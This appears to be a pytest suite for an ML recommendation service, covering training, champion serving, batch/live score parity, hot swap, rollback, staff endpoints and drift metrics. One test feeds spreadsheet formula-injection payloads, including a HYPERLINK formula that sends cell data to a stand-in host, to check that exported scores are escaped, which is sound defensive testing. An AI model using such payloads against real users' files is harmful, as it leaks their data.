"""Issue 4 end to end: train and register, serve the champion in /v1/recommend, batch/real-time
parity, hot swap under load, rollback, staff API. Uses a synthetic tenant with known signal."""

from __future__ import annotations

import csv
import threading
from dataclasses import replace

import numpy as np
import pytest

from models import registry
from models.batch import score_file
from models.bundle import load_bundle
from models.pipeline import train_and_register
from models.synthetic import SyntheticConfig
from models.training import TrainingError, TrainParams
from tests.synth_world import make_world

# Training a small tenant cross-validates its candidates (models/training/selection.py):
# minutes on a busy shared 2-core machine.
pytestmark = pytest.mark.timeout(1200)

FAST = TrainParams(max_rounds=60, early_stopping=10)


@pytest.fixture(scope="module")
def world(redis_server, shared_data, geo_dir, tmp_path_factory):
    return make_world(redis_server, shared_data, geo_dir, tmp_path_factory.mktemp("serving"),
                      SyntheticConfig(customers=2500, products=4, dead_products=1, seed=11), tenant="shop")  # fmt: skip


@pytest.fixture(scope="module")
def trained(world):
    return train_and_register(world.r, world.settings, world.tenant, params=replace(FAST))


@pytest.fixture
def app_client(world, monkeypatch):
    from app import create_app
    from store.redis_client import reset_clients

    reset_clients()
    settings = replace(
        world.settings, redis_url=world.url, staff_token="staff", metrics_token="metrics"
    )
    return create_app(settings).test_client()


def _site(world) -> str:
    from store.tenants import rotate_keys

    return rotate_keys(world.r, world.tenant)["site_key"]


def test_first_training_becomes_champion(world, trained):
    assert trained["registry"]["promoted"] is True
    assert registry.champion(world.r, world.tenant) == trained["version"]
    listed = registry.list_versions(world.r, world.tenant)
    assert listed[0]["champion"] and listed[0]["holdout_score"] > 0.6


def test_recommend_uses_the_champion_and_never_offers_holdings(world, trained, app_client):
    site = _site(world)
    holder = next(i for i, row in enumerate(world.data.holds) if row.any())
    raw_id = world.data.customer_ids[holder]
    held = {world.data.products[j] for j in np.flatnonzero(world.data.holds[holder])}
    res = app_client.post(
        "/v1/collect",
        json={
            "site": site,
            "visitor": "dev-1",
            "events": [
                {
                    "id": "i1",
                    "type": "identify",
                    "ts": int(world.data.end_time * 1000) - 1000,
                    "customer_id": raw_id,
                }
            ],
        },
    )
    assert res.status_code == 200
    out = app_client.get(f"/v1/recommend?site={site}&visitor=dev-1&n=5&explain=1").json
    assert out["source"] == f"model:{trained['version']}"
    offered = {o["product_id"] for o in out["offers"]}
    assert offered and not offered & held
    assert all(0.0 <= o["score"] <= 1.0 for o in out["offers"])
    first = out["offers"][0]["product_id"]
    assert out["explanations"][first] and {"feature", "contribution"} <= set(
        out["explanations"][first][0]
    )
    anon = app_client.get(f"/v1/recommend?site={site}&visitor=stranger&n=3").json
    assert anon["source"].startswith("model:") and len(anon["offers"]) >= 1


def test_batch_and_real_time_scores_are_identical(world, trained, tmp_path):
    from enrichment.crm import get_customer
    from enrichment.zip_profile import zip_profile
    from store.tenants import get_tenant

    bundle = load_bundle(world.settings, world.tenant, trained["version"])
    sample = world.data.customers.slice(0, 40)
    customers = tmp_path / "customers.csv"
    import pyarrow.csv as pacsv

    pacsv.write_csv(sample, customers)
    holdings = tmp_path / "holdings.csv"
    pacsv.write_csv(world.data.holdings, holdings)
    out = tmp_path / "scores.csv"
    summary = score_file(world.settings, bundle, customers, out, holdings)
    assert summary["rows"] == 40
    rows = list(csv.DictReader(out.open()))
    assert [r["customer_id"] for r in rows] == sample.column("customer_id").to_pylist()
    tenant = get_tenant(world.r, world.tenant)
    for row in rows[:15]:
        customer = get_customer(world.r, world.tenant, tenant.hash_customer_id(row["customer_id"]))
        block = zip_profile(customer["zip"], "US", world.settings) if customer.get("zip") else None
        live = bundle.scores(bundle.builder.live_vector(None, customer, block))
        batch = np.array([float(row[f"score_{p}"]) for p in bundle.product_ids])
        np.testing.assert_allclose(live, batch, atol=2e-6)


def test_batch_scores_open_safely_in_a_spreadsheet(world, trained, tmp_path):
    """Customer ids from the upload that a spreadsheet would run as formulas are written as
    text; numeric ids and the scores stay numbers."""
    import pyarrow as pa
    import pyarrow.csv as pacsv

    bundle = load_bundle(world.settings, world.tenant, trained["version"])
    hostile = ['=HYPERLINK("http://evil.example/?"&A1)', "@SUM(A1)", "+1+1", "-2", "\t=1"]
    sample = world.data.customers.slice(0, len(hostile))
    sample = sample.set_column(
        sample.schema.get_field_index("customer_id"), "customer_id", pa.array(hostile)
    )
    customers = tmp_path / "customers.csv"
    pacsv.write_csv(sample, customers)
    out = tmp_path / "scores.csv"
    score_file(world.settings, bundle, customers, out)
    rows = list(csv.reader(out.open(newline="")))
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1)',
        "'@SUM(A1)",
        "'+1+1",
        "-2",
        "'\t=1",
    ]
    assert all(0 <= float(cell) <= 1 for r in rows[1:] for cell in r[1:])


def test_hot_swap_under_load_fails_no_request(world, trained, app_client):
    site = _site(world)
    second = train_and_register(
        world.r, world.settings, world.tenant, params=replace(FAST, seed=99), auto_promote=False
    )
    assert second["registry"]["promoted"] is False
    errors: list[int] = []
    sources: set[str] = set()
    stop = threading.Event()

    def hammer():
        while not stop.is_set():
            res = app_client.get(f"/v1/recommend?site={site}&visitor=load&n=3")
            if res.status_code != 200:
                errors.append(res.status_code)
            else:
                sources.add(res.json["source"])

    threads = [threading.Thread(target=hammer) for _ in range(4)]
    for t in threads:
        t.start()
    try:
        for _ in range(3):
            registry.promote(world.r, world.tenant, second["version"])
            threading.Event().wait(0.3)
            registry.rollback(world.r, world.tenant)
            threading.Event().wait(0.3)
    finally:
        stop.set()
        for t in threads:
            t.join()
    assert errors == []
    assert {f"model:{trained['version']}", f"model:{second['version']}"} <= sources


def test_staff_api_and_bad_inputs(world, trained, app_client):
    staff = {"Authorization": "Bearer staff"}
    listed = app_client.get(f"/v1/staff/tenants/{world.tenant}/models", headers=staff).json
    assert listed["champion"] == registry.champion(world.r, world.tenant)
    ev = app_client.get(f"/v1/staff/tenants/{world.tenant}/evaluation", headers=staff).json
    some = next(v for v in ev["products"].values() if v["status"] == "ok")
    assert {"xgboost", "logistic"} <= set(some["candidates"])
    assert (
        app_client.post("/v1/staff/tenants/ghost/train", json={}, headers=staff).status_code == 404
    )
    assert (
        app_client.post(
            f"/v1/staff/tenants/{world.tenant}/models/nope/promote", headers=staff
        ).status_code
        == 404
    )
    with pytest.raises(TrainingError, match="no tenant"):
        train_and_register(world.r, world.settings, "ghost")
    retrain = f"/v1/staff/tenants/{world.tenant}/models/retrain-erased"
    queued = app_client.post(retrain, headers=staff)
    assert queued.status_code == 202 and queued.json["status"] == "queued"
    job = app_client.get(f"/v1/staff/jobs/{queued.json['job']}", headers=staff).json
    assert job["func"] == "app.jobs.retrain_erased_job" and job["meta"]["kind"] == "retrain-erased"
    ghost = "/v1/staff/tenants/ghost/models/retrain-erased"
    assert app_client.post(ghost, headers=staff).status_code == 404


def test_a_champion_that_cannot_load_keeps_the_previous_one_and_is_counted(
    world, trained, app_client
):
    site = _site(world)
    before = app_client.get(f"/v1/recommend?site={site}&visitor=v-broken&n=3").json["source"]
    assert before.startswith("model:")
    registry.register(
        world.r, world.tenant, "v-no-artifacts", {"trained_at": 0},
        challenger_score=0.0, champion_score=None, auto_promote=False,
    )  # fmt: skip
    registry.promote(world.r, world.tenant, "v-no-artifacts")
    try:
        for _ in range(3):
            res = app_client.get(f"/v1/recommend?site={site}&visitor=v-broken&n=3")
            assert res.status_code == 200 and res.json["source"] == before
        metrics = app_client.get("/metrics", headers={"Authorization": "Bearer metrics"}).get_data(
            as_text=True
        )
        line = f'offerwise_model_load_failures_total{{tenant="{world.tenant}"}} 1.0'
        assert line in metrics  # one failed load, then the retry back-off
    finally:
        registry.rollback(world.r, world.tenant)


def test_drift_and_live_calibration_in_the_evaluation_and_metrics(
    world, trained, app_client, monkeypatch
):
    """Served requests are sampled, their responses counted by decile, and the staff
    evaluation and /metrics (with its token) show the champion's drift and calibration."""
    from models import drift

    monkeypatch.setattr(drift, "SAMPLE_EVERY", 1)  # read when this app's bundle loads
    monkeypatch.setattr(drift, "FLUSH_S", 0.0)
    site = _site(world)
    version = registry.champion(world.r, world.tenant)
    world.r.delete(drift.keys.model_drift(world.tenant, version))
    served = []
    for i in range(30):
        out = app_client.get(f"/v1/recommend?site={site}&visitor=drift-{i}&n=3").json
        assert out["source"] == f"model:{version}"
        served += [(f"drift-{i}", o) for o in out["offers"]]
    for n, (visitor, offer) in enumerate(served):
        events = [{"id": f"imp-{n}", "type": "offer_impression", "product_id": offer["product_id"],
                   "token": offer["token"]}]  # fmt: skip
        if n % 3 == 0:
            events.append({"id": f"clk-{n}", "type": "offer_click",
                           "product_id": offer["product_id"], "token": offer["token"]})  # fmt: skip
        res = app_client.post(
            "/v1/collect", json={"site": site, "visitor": visitor, "events": events}
        )
        assert res.status_code == 200 and not res.json.get("flagged"), res.json

    drift.wait_for_writes()  # the samples go to Redis on this process's writer thread
    staff = {"Authorization": "Bearer staff"}
    ev = app_client.get(f"/v1/staff/tenants/{world.tenant}/evaluation", headers=staff).json
    bundle = load_bundle(world.settings, world.tenant, version)
    shift = ev["drift"]
    assert shift["samples"] == {"identified": 0, "anonymous": 30}
    assert shift["all"]["samples"] == 30 and shift["identified"]["samples"] == 0
    assert {row["feature"] for row in shift["all"]["features"]} == set(bundle.builder.feature_names)
    assert all(row["status"] == "too few samples" for row in shift["all"]["features"])
    # Anonymous visitors carry no CRM figures: the CRM features read as far from training.
    assert shift["all"]["max_psi"] > drift.SHIFTED
    calibration = ev["calibration"]
    rows = [row for row in calibration["by_decile"] if row["impressions"]]
    assert sum(row["impressions"] for row in rows) == len(served)
    assert sum(row["clicks"] for row in rows) == len(range(0, len(served), 3))
    for row in rows:
        assert row["predicted_from"] == "served offers" and row["offers_sampled"] > 0
        assert row["click_through"] == round(row["clicks"] / row["impressions"], 6)
    assert calibration["mean_abs_error"]["click_through"] is not None

    from prometheus_client.parser import text_string_to_metric_families

    def series(text: str) -> dict[str, list]:
        found: dict[str, list] = {}
        for family in text_string_to_metric_families(text):
            for sample in family.samples:
                found.setdefault(sample.name, []).append(sample)
        return found

    ours = {"tenant": world.tenant, "model_version": version}
    text = app_client.get("/metrics", headers={"Authorization": "Bearer metrics"}).get_data(
        as_text=True
    )
    got = series(text)
    samples = {s.labels["population"]: s.value for s in got["offerwise_model_drift_samples"]
               if ours.items() <= s.labels.items()}  # fmt: skip
    assert samples == {"identified": 0.0, "all": 30.0}
    psi = [s for s in got["offerwise_model_feature_psi"] if ours.items() <= s.labels.items()]
    # No identified visitor was sampled: PSI for all traffic only.
    assert {s.labels["population"] for s in psi} == {"all"}
    assert len(psi) == len(bundle.builder.feature_names)
    observed = [
        s
        for s in got["offerwise_model_calibration_observed"]
        if ours.items() <= s.labels.items() and s.labels["measure"] == "click_through"
    ]
    assert {int(s.labels["decile"]) for s in observed} == {row["decile"] for row in rows}
    public = series(app_client.get("/metrics").get_data(as_text=True))
    assert "offerwise_model_feature_psi" not in public
